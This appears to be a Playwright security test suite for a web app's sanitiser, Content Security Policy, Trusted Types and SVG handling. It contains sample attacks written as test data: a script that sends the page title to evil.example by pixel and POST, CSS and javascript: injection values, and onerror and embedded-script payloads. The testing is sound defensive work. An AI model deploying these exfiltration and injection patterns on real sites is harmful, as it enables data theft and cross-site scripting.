import type { Page } from '@playwright/test';
import { createHash } from 'node:crypto';
import { contentItem, serveContent, type Region } from '../fixtures/content.ts';
import { attacks, floods, type Attack } from '../fixtures/malicious-content.ts';
import { expect, nightly, test } from '../fixtures/test.ts';

/** Records whether it ran, reached another host or hid the page, and what the browser refused. */
async function watch(page: Page) {
  const found = { runs: 0, outside: [] as string[], refused: [] as string[] };
  await page.exposeFunction('ran', () => void (found.runs += 1));
  await page.exposeFunction('refused', (directive: string) => void found.refused.push(directive));
  await page.addInitScript(() => {
    const report = (window as unknown as { refused: (directive: string) => void }).refused;
    document.addEventListener('securitypolicyviolation', (event) => report(event.effectiveDirective));
  });
  await page.route('https://evil.example/**', (route) => {
    found.outside.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'ran()' });
  });
  return found;
}

/** Puts the attack into every field: title, text, colours, image and link. */
const itemOf = (region: Region, { html }: Attack, number: number) =>
  contentItem(region, `${number} ${html.slice(0, 200)}`, {
    content: `<p>Harmless ${number}</p>${html}`,
    displayOrder: number,
    contentType: { name: number % 2 ? 'Text' : 'Text+Image' },
    customField1: 'red;background:url(https://evil.example/colour.png)',
    customField2: 'url(https://evil.example/colour.png)',
    customField4: '../../https://evil.example/image.svg',
    customField5: 'Background;position:fixed',
    customField6: 'javascript:ran()',
    customField8: '1;position:fixed',
  });

test.describe('in the product, with the policy of the page switched off', () => {
  test.use({ bypassCSP: true, expectedErrors: [/status of 40[04].*content-media/] });

  test('the sanitiser alone stops every attack: nothing runs, reaches another host or changes the page [CNT-18]', async ({
    page,
    signInAs,
  }) => {
    test.slow();
    const found = await watch(page);
    await serveContent(page, (region) => attacks.map((attack, number) => itemOf(region, attack, number)));

    await page.goto('/login');
    await expect(page.getByText('Harmless 0').first()).toBeVisible();
    await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
    await signInAs('paid');
    for (const path of ['/dashboard', '/faqs']) {
      await page.goto(path);
      await expect(page.getByText('Harmless 0').last()).toBeVisible();
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    }
    for (const link of await page.getByRole('main').locator('a:not([href])').all()) await link.click();

    expect(found).toEqual({ runs: 0, outside: [], refused: [] });
    const strangers = 'script, style, link, svg:not(.lucide), iframe, input, img[onerror], [onclick], [href^="java" i]';
    await expect(page.getByRole('main').locator(strangers)).toHaveCount(0);
  });

  for (const flood of floods)
    test(
      `${flood.name} in one item neither stops the page nor fills the browser’s storage`,
      nightly,
      async ({ page }) => {
        const found = await watch(page);
        await serveContent(page, (region) => (region === 'Sign In' ? [itemOf(region, flood, 1)] : []));

        await page.goto('/login');

        await expect(page.getByText('Harmless 1')).toBeVisible();
        await page.getByLabel('Username').fill('ada@quaywatch.test');
        expect(await page.evaluate(() => localStorage.getItem('content:Sign In'))).toBeNull();
        expect(found).toEqual({ runs: 0, outside: [], refused: [] });
      },
    );
});

// Replaces the sanitiser with one that lets everything pass, so that only the policy remains.
const insert = `
  const trusted = trustedTypes.createPolicy('dompurify', { createHTML: (html) => html });
  place.innerHTML = trusted.createHTML(JSON.parse(document.getElementById('content').textContent));
`;
const integrity = `sha384-${createHash('sha384').update(insert).digest('base64')}`;
const head = `<!doctype html><meta charset="utf-8"><title>Fixture</title><h1>Fixture</h1><div id="place"></div>`;

function drawAsItIs({ html }: Attack, way: 'parsed' | 'inserted') {
  if (way === 'parsed') return head + html;
  const data = JSON.stringify(html).replaceAll('<', String.raw`\u003c`);
  return `${head}<script type="application/json" id="content">${data}</script><script src="/insert.js" integrity="${integrity}" crossorigin="anonymous"></script>`;
}

const track = `
  new Image().src = 'https://evil.example/pixel.png?' + document.title;
  fetch('https://evil.example/data', { method: 'POST', mode: 'no-cors', body: document.title }).catch(() => {});
`;
const trackIntegrity = `sha384-${createHash('sha384').update(track).digest('base64')}`;

/** Each attack opens two pages, so `npm test` runs a third of them. */
const tried = process.env.TEST_IN_FULL ? attacks : attacks.filter((_, number) => number % 3 === 0);

test.describe('on a page without the sanitiser', () => {
  test.use({
    expectedErrors: [/Content Security Policy|Failed to load resource/],
    expectedHosts: ['evil.example'],
  });

  test(
    'the policy stops a script from fetching a pixel or sending data elsewhere; without it both work',
    nightly,
    async ({ page }) => {
      const found = await watch(page);
      const { 'content-security-policy': policy = '' } = (await page.request.get('/login')).headers();
      let headers = {};
      await page.route('**/track.js', (route) => route.fulfill({ contentType: 'text/javascript', body: track }));
      await page.route('**/fixture', (route) =>
        route.fulfill({
          contentType: 'text/html',
          body: `${head}<script src="/track.js" integrity="${trackIntegrity}" crossorigin="anonymous"></script>`,
          headers,
        }),
      );

      await page.goto('/fixture');
      await expect.poll(() => found.outside.length, 'without the policy').toBe(2);
      found.outside.length = 0;
      headers = { 'content-security-policy': policy };
      await page.goto('/fixture');

      await expect.poll(() => found.refused.toSorted()).toEqual(['connect-src', 'img-src']);
      expect(found.outside).toEqual([]);
    },
  );

  for (const way of ['parsed', 'inserted'] as const)
    test(
      `the policy of the product alone stops every attack ${way}; without it each one succeeds`,
      way === 'inserted' ? {} : nightly,
      async ({ page }) => {
        test.slow();
        const found = await watch(page);
        const { 'content-security-policy': policy = '', 'integrity-policy': integrityPolicy = '' } = (
          await page.request.get('/login')
        ).headers();
        let shown: { attack: Attack; isProtected: boolean };
        await page.route('**/insert.js', (route) => route.fulfill({ contentType: 'text/javascript', body: insert }));
        await page.route('**/fixture', (route) =>
          route.fulfill({
            contentType: 'text/html',
            body: drawAsItIs(shown.attack, way),
            headers: shown.isProtected
              ? { 'content-security-policy': policy, 'integrity-policy': integrityPolicy }
              : {},
          }),
        );
        const open = async (attack: Attack, isProtected: boolean) => {
          Object.assign(found, { runs: 0, outside: [], refused: [] });
          shown = { attack, isProtected };
          await page.goto('/fixture');
          if (attack.onClick) await page.getByText('press').click();
        };
        const hasStruck = async () =>
          found.runs > 0 ||
          found.outside.length > 0 ||
          !(await page.getByRole('heading', { name: 'Fixture' }).isVisible());

        for (const attack of tried.filter(({ parsedOnly }) => way === 'parsed' || !parsedOnly)) {
          await open(attack, false);
          await expect.poll(hasStruck, `${attack.name} without the policy`).toBe(true);

          await open(attack, true);
          await expect.poll(() => found.refused.length, `${attack.name} is refused`).toBeGreaterThan(0);
          expect(await hasStruck(), `${attack.name} with the policy`).toBe(false);
        }
      },
    );
});

test.describe('with a script of the page that was tampered with', () => {
  test.use({ expectedErrors: [/Trusted(HTML|Script|ScriptURL|TypePolicy)|Content Security Policy/] });

  test('the browser accepts text neither as HTML nor as a script address outside the releases [SES-69]', async ({
    page,
    signInAs,
  }) => {
    await signInAs('paid');
    await page.goto('/dashboard');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

    const refused = await page.evaluate(() => {
      const script = document.createElement('script');
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): void };
      };
      const own = document.querySelector('script[src^="/releases/shell/"]')?.getAttribute('src') ?? '';
      const attempts: Record<string, () => unknown> = {
        'HTML of text': () => (document.createElement('p').innerHTML = '<b>x</b>'),
        'a document of text': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
        'a script of another host': () => (script.src = 'https://evil.example/x.js'),
        'a script of this host that is no release': () => (script.src = '/api/docs/start.js'),
        'an address that leaves the releases': () => (script.src = '/releases/../api/docs/start.js'),
        'a script of text': () => (script.text = 'window.ran()'),
        'a policy of its own': () => trustedTypes.createPolicy('mine', { createHTML: (html: string) => html }),
        'a second policy of the product': () => trustedTypes.createPolicy('default', {}),
        'a script of a release': () => (script.src = own),
      };
      const isRefused = (attempt: () => unknown) => {
        try {
          attempt();
          return false;
        } catch (error) {
          return error instanceof TypeError;
        }
      };
      return Object.keys(attempts).filter((name) => isRefused(attempts[name] as () => unknown));
    });

    expect(refused).toEqual([
      'HTML of text',
      'a document of text',
      'a script of another host',
      'a script of this host that is no release',
      'an address that leaves the releases',
      'a script of text',
      'a policy of its own',
      'a second policy of the product',
    ]);
  });

  test(
    'the page that explains the calls sanitises all HTML that its viewer makes from text [SES-69]',
    nightly,
    async ({ page }) => {
      const found = await watch(page);

      await page.goto('/api/docs');
      await expect(page.getByText('Calls about access keys.')).toBeVisible();
      const drawn = await page.evaluate(() => {
        const place = document.body.appendChild(document.createElement('p'));
        place.innerHTML = '<b>x</b><img src="data:," onerror="window.ran()"><script>window.ran()</script>';
        return place.innerHTML;
      });

      expect(drawn).toBe('<b>x</b><img src="data:,">');
      expect(found).toEqual({ runs: 0, outside: [], refused: [] });
    },
  );
});

test.describe('opened directly', () => {
  test.use({ expectedErrors: [/Blocked script execution/] });

  test('an image of the content runs nothing, whatever it contains [CNT-12]', nightly, async ({ page }) => {
    const found = await watch(page);
    const { 'content-security-policy': policy = '' } = (
      await page.request.get('/content-media/rail-slots.svg')
    ).headers();
    let headers = {};
    const body = '<svg xmlns="http://www.w3.org/2000/svg"><title>Quay</title><script>window.ran()</script></svg>';
    await page.route('**/content-media/evil.svg', (route) =>
      route.fulfill({ contentType: 'image/svg+xml', body, headers }),
    );

    await page.goto('/content-media/evil.svg');
    await expect.poll(() => found.runs, 'without the header it would run').toBe(1);
    headers = { 'content-security-policy': policy };
    const refused = page.waitForEvent('console', (said) => /Blocked script execution/.test(said.text()));
    await page.goto('/content-media/evil.svg');
    await refused;

    expect(found.runs).toBe(1);
  });
});
